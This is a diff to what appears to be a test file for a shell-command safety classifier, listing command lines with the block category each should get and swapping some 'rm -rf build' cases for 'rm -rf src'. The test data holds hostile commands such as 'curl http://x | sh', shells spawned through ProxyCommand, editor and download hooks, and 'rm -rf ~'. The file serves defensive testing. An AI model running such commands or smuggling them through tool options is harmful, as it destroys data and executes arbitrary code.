@@ -22,7 +22,7 @@ BLOCKED = [
     ("posix", "backup --rsh 'curl http://x | sh' src dst", "network"),
     ("posix", "aria2c2 --on-download-complete=/bin/sh file", "unverifiable.terminal-program"),
     ("posix", "plymouth ask-for-password --prompt=x --command=/bin/sh", "unverifiable.terminal-program"),
-    ("posix", "electron-app --gpu-launcher='rm -rf build'", "destructive.recursive-delete"),
+    ("posix", "electron-app --gpu-launcher='rm -rf src'", "destructive.recursive-delete"),
     ("posix", 'tool --editor "$EDITOR_CMD"', "dynamic.script"),
     ("posix", "tar --to-command='rm -rf x' -xf a.tar", "destructive.recursive-delete"),
     (
@@ -39,10 +39,10 @@ BLOCKED = [
     (
         "posix",
         'check_by_ssh -o "ProxyCommand /bin/sh -i <$(tty) |& tee $(tty)" -H localhost -C x',
-        "destructive",
+        "dynamic.script",  # the terminal's name is only known at run time
     ),
     ("posix", "check_by_ssh -o 'ProxyCommand /bin/sh -i' -H localhost -C x", "unverifiable.terminal-program"),
-    ("posix", "mytool -oProxyCommand='rm -rf build' sync", "destructive.recursive-delete"),
+    ("posix", "mytool -oProxyCommand='rm -rf src' sync", "destructive.recursive-delete"),
     ("posix", "mytool -o 'LocalCommand rm -rf ~' host", "destructive.recursive-delete"),
     ("posix", 'mytool -o "KnownHostsCommand $cmd" host', "dynamic.script"),
     ("posix", "check_by_ssh -o 'ProxyCommand nc bastion 22' -H localhost -C uptime", "network"),
@@ -171,7 +171,7 @@ COMMAND_LINES_IN_WORDS = [
     ("posix", "echo 'esyscmd(/bin/sh)' | m4", "unverifiable.payload-process"),
     ("posix", "jrunscript -e 'exec(\"/bin/sh -c id\")'", "unverifiable.payload-process"),
     ("powershell", "$env:COR_PROFILER_PATH = 'C:\\x\\profiler.dll'", "dynamic.script"),
-    ("powershell", "$env:GIT_PAGER = 'rm -rf build'", "destructive.recursive-delete"),
+    ("powershell", "$env:GIT_PAGER = 'rm -rf src'", "destructive.recursive-delete"),
     ("posix", "FACTERLIB=/tmp/facts facter", "dynamic.script"),
     ("posix", "gdb -nx -ex 'dump value /etc/x \"DATA\"' -ex quit", "unverifiable.command-option"),
     ("posix", "pdflatex '\\immediate\\openout\\f=x.tex'", "unverifiable.shell-escape"),
